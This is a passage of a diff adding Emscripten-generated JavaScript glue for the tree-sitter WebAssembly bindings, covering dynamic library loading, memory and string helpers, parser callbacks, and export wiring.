+              updateTableMap(tableBase, metadata.tableSize);
+              moduleExports = relocateExports(instance.exports, memoryBase);
+              if (!flags.allowUndefined) {
+                reportUndefinedSymbols();
+              }
+              function addEmAsm(addr, body) {
+                var args = [];
+                var arity = 0;
+                for (; arity < 16; arity++) {
+                  if (body.indexOf("$" + arity) != -1) {
+                    args.push("$" + arity);
+                  } else {
+                    break;
+                  }
+                }
+                args = args.join(",");
+                var func = `(${args}) => { ${body} };`;
+                ASM_CONSTS[start] = eval(func);
+              }
+              __name(addEmAsm, "addEmAsm");
+              if ("__start_em_asm" in moduleExports) {
+                var start = moduleExports["__start_em_asm"];
+                var stop = moduleExports["__stop_em_asm"];
+                while (start < stop) {
+                  var jsString = UTF8ToString(start);
+                  addEmAsm(start, jsString);
+                  start = HEAPU8.indexOf(0, start) + 1;
+                }
+              }
+              function addEmJs(name, cSig, body) {
+                var jsArgs = [];
+                cSig = cSig.slice(1, -1);
+                if (cSig != "void") {
+                  cSig = cSig.split(",");
+                  for (var i in cSig) {
+                    var jsArg = cSig[i].split(" ").pop();
+                    jsArgs.push(jsArg.replace("*", ""));
+                  }
+                }
+                var func = `(${jsArgs}) => ${body};`;
+                moduleExports[name] = eval(func);
+              }
+              __name(addEmJs, "addEmJs");
+              for (var name in moduleExports) {
+                if (name.startsWith("__em_js__")) {
+                  var start = moduleExports[name];
+                  var jsString = UTF8ToString(start);
+                  var parts = jsString.split("<::>");
+                  addEmJs(name.replace("__em_js__", ""), parts[0], parts[1]);
+                  delete moduleExports[name];
+                }
+              }
+              var applyRelocs = moduleExports["__wasm_apply_data_relocs"];
+              if (applyRelocs) {
+                if (runtimeInitialized) {
+                  applyRelocs();
+                } else {
+                  __RELOC_FUNCS__.push(applyRelocs);
+                }
+              }
+              var init = moduleExports["__wasm_call_ctors"];
+              if (init) {
+                if (runtimeInitialized) {
+                  init();
+                } else {
+                  addOnPostCtor(init);
+                }
+              }
+              return moduleExports;
+            }
+            __name(postInstantiation, "postInstantiation");
+            if (flags.loadAsync) {
+              return (async () => {
+                var instance2;
+                if (binary instanceof WebAssembly.Module) {
+                  instance2 = new WebAssembly.Instance(binary, info);
+                } else {
+                  ({ module: binary, instance: instance2 } = await WebAssembly.instantiate(binary, info));
+                }
+                return postInstantiation(binary, instance2);
+              })();
+            }
+            var module = binary instanceof WebAssembly.Module ? binary : new WebAssembly.Module(binary);
+            var instance = new WebAssembly.Instance(module, info);
+            return postInstantiation(module, instance);
+          }
+          __name(loadModule, "loadModule");
+          flags = {
+            ...flags,
+            rpath: {
+              parentLibPath: libName,
+              paths: metadata.runtimePaths
+            }
+          };
+          if (flags.loadAsync) {
+            return metadata.neededDynlibs.reduce((chain, dynNeeded) => chain.then(() => loadDynamicLibrary(dynNeeded, flags, localScope)), Promise.resolve()).then(loadModule);
+          }
+          metadata.neededDynlibs.forEach((needed) => loadDynamicLibrary(needed, flags, localScope));
+          return loadModule();
+        }, "loadWebAssemblyModule");
+        var mergeLibSymbols = /* @__PURE__ */ __name((exports2, libName2) => {
+          for (var [sym, exp] of Object.entries(exports2)) {
+            const setImport = /* @__PURE__ */ __name((target) => {
+              if (!isSymbolDefined(target)) {
+                wasmImports[target] = exp;
+              }
+            }, "setImport");
+            setImport(sym);
+            const main_alias = "__main_argc_argv";
+            if (sym == "main") {
+              setImport(main_alias);
+            }
+            if (sym == main_alias) {
+              setImport("main");
+            }
+          }
+        }, "mergeLibSymbols");
+        var asyncLoad = /* @__PURE__ */ __name(async (url) => {
+          var arrayBuffer = await readAsync(url);
+          return new Uint8Array(arrayBuffer);
+        }, "asyncLoad");
+        function loadDynamicLibrary(libName2, flags2 = {
+          global: true,
+          nodelete: true
+        }, localScope2, handle2) {
+          var dso = LDSO.loadedLibsByName[libName2];
+          if (dso) {
+            if (!flags2.global) {
+              if (localScope2) {
+                Object.assign(localScope2, dso.exports);
+              }
+            } else if (!dso.global) {
+              dso.global = true;
+              mergeLibSymbols(dso.exports, libName2);
+            }
+            if (flags2.nodelete && dso.refcount !== Infinity) {
+              dso.refcount = Infinity;
+            }
+            dso.refcount++;
+            if (handle2) {
+              LDSO.loadedLibsByHandle[handle2] = dso;
+            }
+            return flags2.loadAsync ? Promise.resolve(true) : true;
+          }
+          dso = newDSO(libName2, handle2, "loading");
+          dso.refcount = flags2.nodelete ? Infinity : 1;
+          dso.global = flags2.global;
+          function loadLibData() {
+            if (handle2) {
+              var data = LE_HEAP_LOAD_U32((handle2 + 28 >> 2) * 4);
+              var dataSize = LE_HEAP_LOAD_U32((handle2 + 32 >> 2) * 4);
+              if (data && dataSize) {
+                var libData = HEAP8.slice(data, data + dataSize);
+                return flags2.loadAsync ? Promise.resolve(libData) : libData;
+              }
+            }
+            var libFile = locateFile(libName2);
+            if (flags2.loadAsync) {
+              return asyncLoad(libFile);
+            }
+            if (!readBinary) {
+              throw new Error(`${libFile}: file not found, and synchronous loading of external files is not available`);
+            }
+            return readBinary(libFile);
+          }
+          __name(loadLibData, "loadLibData");
+          function getExports() {
+            if (flags2.loadAsync) {
+              return loadLibData().then((libData) => loadWebAssemblyModule(libData, flags2, libName2, localScope2, handle2));
+            }
+            return loadWebAssemblyModule(loadLibData(), flags2, libName2, localScope2, handle2);
+          }
+          __name(getExports, "getExports");
+          function moduleLoaded(exports2) {
+            if (dso.global) {
+              mergeLibSymbols(exports2, libName2);
+            } else if (localScope2) {
+              Object.assign(localScope2, exports2);
+            }
+            dso.exports = exports2;
+          }
+          __name(moduleLoaded, "moduleLoaded");
+          if (flags2.loadAsync) {
+            return getExports().then((exports2) => {
+              moduleLoaded(exports2);
+              return true;
+            });
+          }
+          moduleLoaded(getExports());
+          return true;
+        }
+        __name(loadDynamicLibrary, "loadDynamicLibrary");
+        var reportUndefinedSymbols = /* @__PURE__ */ __name(() => {
+          for (var [symName, entry] of Object.entries(GOT)) {
+            if (entry.value == 0) {
+              var value = resolveGlobalSymbol(symName, true).sym;
+              if (!value && !entry.required) {
+                continue;
+              }
+              if (typeof value == "function") {
+                entry.value = addFunction(value, value.sig);
+              } else if (typeof value == "number") {
+                entry.value = value;
+              } else {
+                throw new Error(`bad export type for '${symName}': ${typeof value}`);
+              }
+            }
+          }
+        }, "reportUndefinedSymbols");
+        var runDependencies = 0;
+        var dependenciesFulfilled = null;
+        var removeRunDependency = /* @__PURE__ */ __name((id) => {
+          runDependencies--;
+          Module["monitorRunDependencies"]?.(runDependencies);
+          if (runDependencies == 0) {
+            if (dependenciesFulfilled) {
+              var callback = dependenciesFulfilled;
+              dependenciesFulfilled = null;
+              callback();
+            }
+          }
+        }, "removeRunDependency");
+        var addRunDependency = /* @__PURE__ */ __name((id) => {
+          runDependencies++;
+          Module["monitorRunDependencies"]?.(runDependencies);
+        }, "addRunDependency");
+        var loadDylibs = /* @__PURE__ */ __name(async () => {
+          if (!dynamicLibraries.length) {
+            reportUndefinedSymbols();
+            return;
+          }
+          addRunDependency("loadDylibs");
+          for (var lib of dynamicLibraries) {
+            await loadDynamicLibrary(lib, {
+              loadAsync: true,
+              global: true,
+              nodelete: true,
+              allowUndefined: true
+            });
+          }
+          reportUndefinedSymbols();
+          removeRunDependency("loadDylibs");
+        }, "loadDylibs");
+        var noExitRuntime = true;
+        function setValue(ptr, value, type = "i8") {
+          if (type.endsWith("*")) type = "*";
+          switch (type) {
+            case "i1":
+              HEAP8[ptr] = value;
+              break;
+            case "i8":
+              HEAP8[ptr] = value;
+              break;
+            case "i16":
+              LE_HEAP_STORE_I16((ptr >> 1) * 2, value);
+              break;
+            case "i32":
+              LE_HEAP_STORE_I32((ptr >> 2) * 4, value);
+              break;
+            case "i64":
+              LE_HEAP_STORE_I64((ptr >> 3) * 8, BigInt(value));
+              break;
+            case "float":
+              LE_HEAP_STORE_F32((ptr >> 2) * 4, value);
+              break;
+            case "double":
+              LE_HEAP_STORE_F64((ptr >> 3) * 8, value);
+              break;
+            case "*":
+              LE_HEAP_STORE_U32((ptr >> 2) * 4, value);
+              break;
+            default:
+              abort(`invalid type for setValue: ${type}`);
+          }
+        }
+        __name(setValue, "setValue");
+        var ___memory_base = new WebAssembly.Global({
+          "value": "i32",
+          "mutable": false
+        }, 1024);
+        var ___stack_high = 82240;
+        var ___stack_low = 16704;
+        var ___stack_pointer = new WebAssembly.Global({
+          "value": "i32",
+          "mutable": true
+        }, 82240);
+        var ___table_base = new WebAssembly.Global({
+          "value": "i32",
+          "mutable": false
+        }, 1);
+        var __abort_js = /* @__PURE__ */ __name(() => abort(""), "__abort_js");
+        __abort_js.sig = "v";
+        var getHeapMax = /* @__PURE__ */ __name(() => (
+          // Stay one Wasm page short of 4GB: while e.g. Chrome is able to allocate
+          // full 4GB Wasm memories, the size will wrap back to 0 bytes in Wasm side
+          // for any code that deals with heap sizes, which would require special
+          // casing all heap size related code to treat 0 specially.
+          2147483648
+        ), "getHeapMax");
+        var growMemory = /* @__PURE__ */ __name((size) => {
+          var oldHeapSize = wasmMemory.buffer.byteLength;
+          var pages = (size - oldHeapSize + 65535) / 65536 | 0;
+          try {
+            wasmMemory.grow(pages);
+            updateMemoryViews();
+            return 1;
+          } catch (e) {
+          }
+        }, "growMemory");
+        var _emscripten_resize_heap = /* @__PURE__ */ __name((requestedSize) => {
+          var oldSize = HEAPU8.length;
+          requestedSize >>>= 0;
+          var maxHeapSize = getHeapMax();
+          if (requestedSize > maxHeapSize) {
+            return false;
+          }
+          for (var cutDown = 1; cutDown <= 4; cutDown *= 2) {
+            var overGrownHeapSize = oldSize * (1 + 0.2 / cutDown);
+            overGrownHeapSize = Math.min(overGrownHeapSize, requestedSize + 100663296);
+            var newSize = Math.min(maxHeapSize, alignMemory(Math.max(requestedSize, overGrownHeapSize), 65536));
+            var replacement = growMemory(newSize);
+            if (replacement) {
+              return true;
+            }
+          }
+          return false;
+        }, "_emscripten_resize_heap");
+        _emscripten_resize_heap.sig = "ip";
+        var _fd_close = /* @__PURE__ */ __name((fd) => 52, "_fd_close");
+        _fd_close.sig = "ii";
+        var INT53_MAX = 9007199254740992;
+        var INT53_MIN = -9007199254740992;
+        var bigintToI53Checked = /* @__PURE__ */ __name((num) => num < INT53_MIN || num > INT53_MAX ? NaN : Number(num), "bigintToI53Checked");
+        function _fd_seek(fd, offset, whence, newOffset) {
+          offset = bigintToI53Checked(offset);
+          return 70;
+        }
+        __name(_fd_seek, "_fd_seek");
+        _fd_seek.sig = "iijip";
+        var printCharBuffers = [null, [], []];
+        var printChar = /* @__PURE__ */ __name((stream, curr) => {
+          var buffer = printCharBuffers[stream];
+          if (curr === 0 || curr === 10) {
+            (stream === 1 ? out : err)(UTF8ArrayToString(buffer));
+            buffer.length = 0;
+          } else {
+            buffer.push(curr);
+          }
+        }, "printChar");
+        var _fd_write = /* @__PURE__ */ __name((fd, iov, iovcnt, pnum) => {
+          var num = 0;
+          for (var i2 = 0; i2 < iovcnt; i2++) {
+            var ptr = LE_HEAP_LOAD_U32((iov >> 2) * 4);
+            var len = LE_HEAP_LOAD_U32((iov + 4 >> 2) * 4);
+            iov += 8;
+            for (var j = 0; j < len; j++) {
+              printChar(fd, HEAPU8[ptr + j]);
+            }
+            num += len;
+          }
+          LE_HEAP_STORE_U32((pnum >> 2) * 4, num);
+          return 0;
+        }, "_fd_write");
+        _fd_write.sig = "iippp";
+        function _tree_sitter_log_callback(isLexMessage, messageAddress) {
+          if (Module.currentLogCallback) {
+            const message = UTF8ToString(messageAddress);
+            Module.currentLogCallback(message, isLexMessage !== 0);
+          }
+        }
+        __name(_tree_sitter_log_callback, "_tree_sitter_log_callback");
+        function _tree_sitter_parse_callback(inputBufferAddress, index, row, column, lengthAddress) {
+          const INPUT_BUFFER_SIZE = 10 * 1024;
+          const string = Module.currentParseCallback(index, {
+            row,
+            column
+          });
+          if (typeof string === "string") {
+            setValue(lengthAddress, string.length, "i32");
+            stringToUTF16(string, inputBufferAddress, INPUT_BUFFER_SIZE);
+          } else {
+            setValue(lengthAddress, 0, "i32");
+          }
+        }
+        __name(_tree_sitter_parse_callback, "_tree_sitter_parse_callback");
+        function _tree_sitter_progress_callback(currentOffset, hasError) {
+          if (Module.currentProgressCallback) {
+            return Module.currentProgressCallback({
+              currentOffset,
+              hasError
+            });
+          }
+          return false;
+        }
+        __name(_tree_sitter_progress_callback, "_tree_sitter_progress_callback");
+        function _tree_sitter_query_progress_callback(currentOffset) {
+          if (Module.currentQueryProgressCallback) {
+            return Module.currentQueryProgressCallback({
+              currentOffset
+            });
+          }
+          return false;
+        }
+        __name(_tree_sitter_query_progress_callback, "_tree_sitter_query_progress_callback");
+        var runtimeKeepaliveCounter = 0;
+        var keepRuntimeAlive = /* @__PURE__ */ __name(() => noExitRuntime || runtimeKeepaliveCounter > 0, "keepRuntimeAlive");
+        var _proc_exit = /* @__PURE__ */ __name((code) => {
+          EXITSTATUS = code;
+          if (!keepRuntimeAlive()) {
+            Module["onExit"]?.(code);
+            ABORT = true;
+          }
+          quit_(code, new ExitStatus(code));
+        }, "_proc_exit");
+        _proc_exit.sig = "vi";
+        var exitJS = /* @__PURE__ */ __name((status, implicit) => {
+          EXITSTATUS = status;
+          _proc_exit(status);
+        }, "exitJS");
+        var handleException = /* @__PURE__ */ __name((e) => {
+          if (e instanceof ExitStatus || e == "unwind") {
+            return EXITSTATUS;
+          }
+          quit_(1, e);
+        }, "handleException");
+        var lengthBytesUTF8 = /* @__PURE__ */ __name((str) => {
+          var len = 0;
+          for (var i2 = 0; i2 < str.length; ++i2) {
+            var c = str.charCodeAt(i2);
+            if (c <= 127) {
+              len++;
+            } else if (c <= 2047) {
+              len += 2;
+            } else if (c >= 55296 && c <= 57343) {
+              len += 4;
+              ++i2;
+            } else {
+              len += 3;
+            }
+          }
+          return len;
+        }, "lengthBytesUTF8");
+        var stringToUTF8Array = /* @__PURE__ */ __name((str, heap, outIdx, maxBytesToWrite) => {
+          if (!(maxBytesToWrite > 0)) return 0;
+          var startIdx = outIdx;
+          var endIdx = outIdx + maxBytesToWrite - 1;
+          for (var i2 = 0; i2 < str.length; ++i2) {
+            var u = str.codePointAt(i2);
+            if (u <= 127) {
+              if (outIdx >= endIdx) break;
+              heap[outIdx++] = u;
+            } else if (u <= 2047) {
+              if (outIdx + 1 >= endIdx) break;
+              heap[outIdx++] = 192 | u >> 6;
+              heap[outIdx++] = 128 | u & 63;
+            } else if (u <= 65535) {
+              if (outIdx + 2 >= endIdx) break;
+              heap[outIdx++] = 224 | u >> 12;
+              heap[outIdx++] = 128 | u >> 6 & 63;
+              heap[outIdx++] = 128 | u & 63;
+            } else {
+              if (outIdx + 3 >= endIdx) break;
+              heap[outIdx++] = 240 | u >> 18;
+              heap[outIdx++] = 128 | u >> 12 & 63;
+              heap[outIdx++] = 128 | u >> 6 & 63;
+              heap[outIdx++] = 128 | u & 63;
+              i2++;
+            }
+          }
+          heap[outIdx] = 0;
+          return outIdx - startIdx;
+        }, "stringToUTF8Array");
+        var stringToUTF8 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => stringToUTF8Array(str, HEAPU8, outPtr, maxBytesToWrite), "stringToUTF8");
+        var stackAlloc = /* @__PURE__ */ __name((sz) => __emscripten_stack_alloc(sz), "stackAlloc");
+        var stringToUTF8OnStack = /* @__PURE__ */ __name((str) => {
+          var size = lengthBytesUTF8(str) + 1;
+          var ret = stackAlloc(size);
+          stringToUTF8(str, ret, size);
+          return ret;
+        }, "stringToUTF8OnStack");
+        var AsciiToString = /* @__PURE__ */ __name((ptr) => {
+          var str = "";
+          while (1) {
+            var ch = HEAPU8[ptr++];
+            if (!ch) return str;
+            str += String.fromCharCode(ch);
+          }
+        }, "AsciiToString");
+        var stringToUTF16 = /* @__PURE__ */ __name((str, outPtr, maxBytesToWrite) => {
+          maxBytesToWrite ??= 2147483647;
+          if (maxBytesToWrite < 2) return 0;
+          maxBytesToWrite -= 2;
+          var startPtr = outPtr;
+          var numCharsToWrite = maxBytesToWrite < str.length * 2 ? maxBytesToWrite / 2 : str.length;
+          for (var i2 = 0; i2 < numCharsToWrite; ++i2) {
+            var codeUnit = str.charCodeAt(i2);
+            LE_HEAP_STORE_I16((outPtr >> 1) * 2, codeUnit);
+            outPtr += 2;
+          }
+          LE_HEAP_STORE_I16((outPtr >> 1) * 2, 0);
+          return outPtr - startPtr;
+        }, "stringToUTF16");
+        LE_ATOMICS_NATIVE_BYTE_ORDER = new Int8Array(new Int16Array([1]).buffer)[0] === 1 ? [
+          /* little endian */
+          ((x) => x),
+          ((x) => x),
+          void 0,
+          ((x) => x)
+        ] : [
+          /* big endian */
+          ((x) => x),
+          ((x) => ((x & 65280) << 8 | (x & 255) << 24) >> 16),
+          void 0,
+          ((x) => x >> 24 & 255 | x >> 8 & 65280 | (x & 65280) << 8 | (x & 255) << 24)
+        ];
+        function LE_HEAP_UPDATE() {
+          HEAPU16.unsigned = ((x) => x & 65535);
+          HEAPU32.unsigned = ((x) => x >>> 0);
+        }
+        __name(LE_HEAP_UPDATE, "LE_HEAP_UPDATE");
+        {
+          initMemory();
+          if (Module["noExitRuntime"]) noExitRuntime = Module["noExitRuntime"];
+          if (Module["print"]) out = Module["print"];
+          if (Module["printErr"]) err = Module["printErr"];
+          if (Module["dynamicLibraries"]) dynamicLibraries = Module["dynamicLibraries"];
+          if (Module["wasmBinary"]) wasmBinary = Module["wasmBinary"];
+          if (Module["arguments"]) arguments_ = Module["arguments"];
+          if (Module["thisProgram"]) thisProgram = Module["thisProgram"];
+          if (Module["preInit"]) {
+            if (typeof Module["preInit"] == "function") Module["preInit"] = [Module["preInit"]];
+            while (Module["preInit"].length > 0) {
+              Module["preInit"].shift()();
+            }
+          }
+        }
+        Module["setValue"] = setValue;
+        Module["getValue"] = getValue;
+        Module["UTF8ToString"] = UTF8ToString;
+        Module["stringToUTF8"] = stringToUTF8;
+        Module["lengthBytesUTF8"] = lengthBytesUTF8;
+        Module["AsciiToString"] = AsciiToString;
+        Module["stringToUTF16"] = stringToUTF16;
+        Module["loadWebAssemblyModule"] = loadWebAssemblyModule;
+        Module["LE_HEAP_STORE_I64"] = LE_HEAP_STORE_I64;
+        var ASM_CONSTS = {};
+        var _malloc, _calloc, _realloc, _free, _ts_range_edit, _memcmp, _ts_language_symbol_count, _ts_language_state_count, _ts_language_abi_version, _ts_language_name, _ts_language_field_count, _ts_language_next_state, _ts_language_symbol_name, _ts_language_symbol_for_name, _strncmp, _strlen, _ts_language_symbol_type, _ts_language_field_name_for_id, _ts_lookahead_iterator_new, _ts_lookahead_iterator_delete, _ts_lookahead_iterator_reset_state, _ts_lookahead_iterator_reset, _ts_lookahead_iterator_next, _ts_lookahead_iterator_current_symbol, _ts_point_edit, _ts_parser_delete, _ts_parser_reset, _ts_parser_set_language, _ts_parser_set_included_ranges, _ts_query_new, _ts_query_delete, _iswspace, _iswalnum, _ts_query_copy, _ts_query_pattern_count, _ts_query_capture_count, _ts_query_string_count, _ts_query_capture_name_for_id, _ts_query_capture_quantifier_for_id, _ts_query_string_value_for_id, _ts_query_predicates_for_pattern, _ts_query_start_byte_for_pattern, _ts_query_end_byte_for_pattern, _ts_query_is_pattern_rooted, _ts_query_is_pattern_non_local, _ts_query_is_pattern_guaranteed_at_step, _ts_query_disable_capture, _ts_query_disable_pattern, _ts_tree_copy, _ts_tree_delete, _ts_init, _ts_parser_new_wasm, _ts_parser_enable_logger_wasm, _ts_parser_parse_wasm, _ts_parser_included_ranges_wasm, _ts_language_type_is_named_wasm, _ts_language_type_is_visible_wasm, _ts_language_metadata_wasm, _ts_language_supertypes_wasm, _ts_language_subtypes_wasm, _ts_tree_root_node_wasm, _ts_tree_root_node_with_offset_wasm, _ts_tree_edit_wasm, _ts_tree_included_ranges_wasm, _ts_tree_get_changed_ranges_wasm, _ts_tree_cursor_new_wasm, _ts_tree_cursor_copy_wasm, _ts_tree_cursor_delete_wasm, _ts_tree_cursor_reset_wasm, _ts_tree_cursor_reset_to_wasm, _ts_tree_cursor_goto_first_child_wasm, _ts_tree_cursor_goto_last_child_wasm, _ts_tree_cursor_goto_first_child_for_index_wasm, _ts_tree_cursor_goto_first_child_for_position_wasm, _ts_tree_cursor_goto_next_sibling_wasm, _ts_tree_cursor_goto_previous_sibling_wasm, _ts_tree_cursor_goto_descendant_wasm, _ts_tree_cursor_goto_parent_wasm, _ts_tree_cursor_current_node_type_id_wasm, _ts_tree_cursor_current_node_state_id_wasm, _ts_tree_cursor_current_node_is_named_wasm, _ts_tree_cursor_current_node_is_missing_wasm, _ts_tree_cursor_current_node_id_wasm, _ts_tree_cursor_start_position_wasm, _ts_tree_cursor_end_position_wasm, _ts_tree_cursor_start_index_wasm, _ts_tree_cursor_end_index_wasm, _ts_tree_cursor_current_field_id_wasm, _ts_tree_cursor_current_depth_wasm, _ts_tree_cursor_current_descendant_index_wasm, _ts_tree_cursor_current_node_wasm, _ts_node_symbol_wasm, _ts_node_field_name_for_child_wasm, _ts_node_field_name_for_named_child_wasm, _ts_node_children_by_field_id_wasm, _ts_node_first_child_for_byte_wasm, _ts_node_first_named_child_for_byte_wasm, _ts_node_grammar_symbol_wasm, _ts_node_child_count_wasm, _ts_node_named_child_count_wasm, _ts_node_child_wasm, _ts_node_named_child_wasm, _ts_node_child_by_field_id_wasm, _ts_node_next_sibling_wasm, _ts_node_prev_sibling_wasm, _ts_node_next_named_sibling_wasm, _ts_node_prev_named_sibling_wasm, _ts_node_descendant_count_wasm, _ts_node_parent_wasm, _ts_node_child_with_descendant_wasm, _ts_node_descendant_for_index_wasm, _ts_node_named_descendant_for_index_wasm, _ts_node_descendant_for_position_wasm, _ts_node_named_descendant_for_position_wasm, _ts_node_start_point_wasm, _ts_node_end_point_wasm, _ts_node_start_index_wasm, _ts_node_end_index_wasm, _ts_node_to_string_wasm, _ts_node_children_wasm, _ts_node_named_children_wasm, _ts_node_descendants_of_type_wasm, _ts_node_is_named_wasm, _ts_node_has_changes_wasm, _ts_node_has_error_wasm, _ts_node_is_error_wasm, _ts_node_is_missing_wasm, _ts_node_is_extra_wasm, _ts_node_parse_state_wasm, _ts_node_next_parse_state_wasm, _ts_query_matches_wasm, _ts_query_captures_wasm, _memset, _memcpy, _memmove, _iswalpha, _iswblank, _iswdigit, _iswlower, _iswpunct, _iswupper, _iswxdigit, _memchr, _strcmp, _strncat, _strncpy, _towlower, _towupper, _setThrew, __emscripten_stack_restore, __emscripten_stack_alloc, _emscripten_stack_get_current, ___wasm_apply_data_relocs;
+        function assignWasmExports(wasmExports2) {
+          Module["_malloc"] = _malloc = wasmExports2["malloc"];
+          Module["_calloc"] = _calloc = wasmExports2["calloc"];
+          Module["_realloc"] = _realloc = wasmExports2["realloc"];
+          Module["_free"] = _free = wasmExports2["free"];
+          Module["_ts_range_edit"] = _ts_range_edit = wasmExports2["ts_range_edit"];
+          Module["_memcmp"] = _memcmp = wasmExports2["memcmp"];
+          Module["_ts_language_symbol_count"] = _ts_language_symbol_count = wasmExports2["ts_language_symbol_count"];
+          Module["_ts_language_state_count"] = _ts_language_state_count = wasmExports2["ts_language_state_count"];
+          Module["_ts_language_abi_version"] = _ts_language_abi_version = wasmExports2["ts_language_abi_version"];
+          Module["_ts_language_name"] = _ts_language_name = wasmExports2["ts_language_name"];
+          Module["_ts_language_field_count"] = _ts_language_field_count = wasmExports2["ts_language_field_count"];
+          Module["_ts_language_next_state"] = _ts_language_next_state = wasmExports2["ts_language_next_state"];
+          Module["_ts_language_symbol_name"] = _ts_language_symbol_name = wasmExports2["ts_language_symbol_name"];
+          Module["_ts_language_symbol_for_name"] = _ts_language_symbol_for_name = wasmExports2["ts_language_symbol_for_name"];
+          Module["_strncmp"] = _strncmp = wasmExports2["strncmp"];
+          Module["_strlen"] = _strlen = wasmExports2["strlen"];
+          Module["_ts_language_symbol_type"] = _ts_language_symbol_type = wasmExports2["ts_language_symbol_type"];
+          Module["_ts_language_field_name_for_id"] = _ts_language_field_name_for_id = wasmExports2["ts_language_field_name_for_id"];
+          Module["_ts_lookahead_iterator_new"] = _ts_lookahead_iterator_new = wasmExports2["ts_lookahead_iterator_new"];
+          Module["_ts_lookahead_iterator_delete"] = _ts_lookahead_iterator_delete = wasmExports2["ts_lookahead_iterator_delete"];
+          Module["_ts_lookahead_iterator_reset_state"] = _ts_lookahead_iterator_reset_state = wasmExports2["ts_lookahead_iterator_reset_state"];
+          Module["_ts_lookahead_iterator_reset"] = _ts_lookahead_iterator_reset = wasmExports2["ts_lookahead_iterator_reset"];
+          Module["_ts_lookahead_iterator_next"] = _ts_lookahead_iterator_next = wasmExports2["ts_lookahead_iterator_next"];
+          Module["_ts_lookahead_iterator_current_symbol"] = _ts_lookahead_iterator_current_symbol = wasmExports2["ts_lookahead_iterator_current_symbol"];
+          Module["_ts_point_edit"] = _ts_point_edit = wasmExports2["ts_point_edit"];
+          Module["_ts_parser_delete"] = _ts_parser_delete = wasmExports2["ts_parser_delete"];
+          Module["_ts_parser_reset"] = _ts_parser_reset = wasmExports2["ts_parser_reset"];
+          Module["_ts_parser_set_language"] = _ts_parser_set_language = wasmExports2["ts_parser_set_language"];
+          Module["_ts_parser_set_included_ranges"] = _ts_parser_set_included_ranges = wasmExports2["ts_parser_set_included_ranges"];
+          Module["_ts_query_new"] = _ts_query_new = wasmExports2["ts_query_new"];
+          Module["_ts_query_delete"] = _ts_query_delete = wasmExports2["ts_query_delete"];
+          Module["_iswspace"] = _iswspace = wasmExports2["iswspace"];
+          Module["_iswalnum"] = _iswalnum = wasmExports2["iswalnum"];
+          Module["_ts_query_copy"] = _ts_query_copy = wasmExports2["ts_query_copy"];
+          Module["_ts_query_pattern_count"] = _ts_query_pattern_count = wasmExports2["ts_query_pattern_count"];
+          Module["_ts_query_capture_count"] = _ts_query_capture_count = wasmExports2["ts_query_capture_count"];
+          Module["_ts_query_string_count"] = _ts_query_string_count = wasmExports2["ts_query_string_count"];
+          Module["_ts_query_capture_name_for_id"] = _ts_query_capture_name_for_id = wasmExports2["ts_query_capture_name_for_id"];
+          Module["_ts_query_capture_quantifier_for_id"] = _ts_query_capture_quantifier_for_id = wasmExports2["ts_query_capture_quantifier_for_id"];
+          Module["_ts_query_string_value_for_id"] = _ts_query_string_value_for_id = wasmExports2["ts_query_string_value_for_id"];
+          Module["_ts_query_predicates_for_pattern"] = _ts_query_predicates_for_pattern = wasmExports2["ts_query_predicates_for_pattern"];
+          Module["_ts_query_start_byte_for_pattern"] = _ts_query_start_byte_for_pattern = wasmExports2["ts_query_start_byte_for_pattern"];
+          Module["_ts_query_end_byte_for_pattern"] = _ts_query_end_byte_for_pattern = wasmExports2["ts_query_end_byte_for_pattern"];
+          Module["_ts_query_is_pattern_rooted"] = _ts_query_is_pattern_rooted = wasmExports2["ts_query_is_pattern_rooted"];
+          Module["_ts_query_is_pattern_non_local"] = _ts_query_is_pattern_non_local = wasmExports2["ts_query_is_pattern_non_local"];
+          Module["_ts_query_is_pattern_guaranteed_at_step"] = _ts_query_is_pattern_guaranteed_at_step = wasmExports2["ts_query_is_pattern_guaranteed_at_step"];
+          Module["_ts_query_disable_capture"] = _ts_query_disable_capture = wasmExports2["ts_query_disable_capture"];
+          Module["_ts_query_disable_pattern"] = _ts_query_disable_pattern = wasmExports2["ts_query_disable_pattern"];
+          Module["_ts_tree_copy"] = _ts_tree_copy = wasmExports2["ts_tree_copy"];
+          Module["_ts_tree_delete"] = _ts_tree_delete = wasmExports2["ts_tree_delete"];
+          Module["_ts_init"] = _ts_init = wasmExports2["ts_init"];
+          Module["_ts_parser_new_wasm"] = _ts_parser_new_wasm = wasmExports2["ts_parser_new_wasm"];
+          Module["_ts_parser_enable_logger_wasm"] = _ts_parser_enable_logger_wasm = wasmExports2["ts_parser_enable_logger_wasm"];
+          Module["_ts_parser_parse_wasm"] = _ts_parser_parse_wasm = wasmExports2["ts_parser_parse_wasm"];
+          Module["_ts_parser_included_ranges_wasm"] = _ts_parser_included_ranges_wasm = wasmExports2["ts_parser_included_ranges_wasm"];
+          Module["_ts_language_type_is_named_wasm"] = _ts_language_type_is_named_wasm = wasmExports2["ts_language_type_is_named_wasm"];
+          Module["_ts_language_type_is_visible_wasm"] = _ts_language_type_is_visible_wasm = wasmExports2["ts_language_type_is_visible_wasm"];
+          Module["_ts_language_metadata_wasm"] = _ts_language_metadata_wasm = wasmExports2["ts_language_metadata_wasm"];
+          Module["_ts_language_supertypes_wasm"] = _ts_language_supertypes_wasm = wasmExports2["ts_language_supertypes_wasm"];
+          Module["_ts_language_subtypes_wasm"] = _ts_language_subtypes_wasm = wasmExports2["ts_language_subtypes_wasm"];
+          Module["_ts_tree_root_node_wasm"] = _ts_tree_root_node_wasm = wasmExports2["ts_tree_root_node_wasm"];
+          Module["_ts_tree_root_node_with_offset_wasm"] = _ts_tree_root_node_with_offset_wasm = wasmExports2["ts_tree_root_node_with_offset_wasm"];
+          Module["_ts_tree_edit_wasm"] = _ts_tree_edit_wasm = wasmExports2["ts_tree_edit_wasm"];
+          Module["_ts_tree_included_ranges_wasm"] = _ts_tree_included_ranges_wasm = wasmExports2["ts_tree_included_ranges_wasm"];
+          Module["_ts_tree_get_changed_ranges_wasm"] = _ts_tree_get_changed_ranges_wasm = wasmExports2["ts_tree_get_changed_ranges_wasm"];
+          Module["_ts_tree_cursor_new_wasm"] = _ts_tree_cursor_new_wasm = wasmExports2["ts_tree_cursor_new_wasm"];
+          Module["_ts_tree_cursor_copy_wasm"] = _ts_tree_cursor_copy_wasm = wasmExports2["ts_tree_cursor_copy_wasm"];
+          Module["_ts_tree_cursor_delete_wasm"] = _ts_tree_cursor_delete_wasm = wasmExports2["ts_tree_cursor_delete_wasm"];
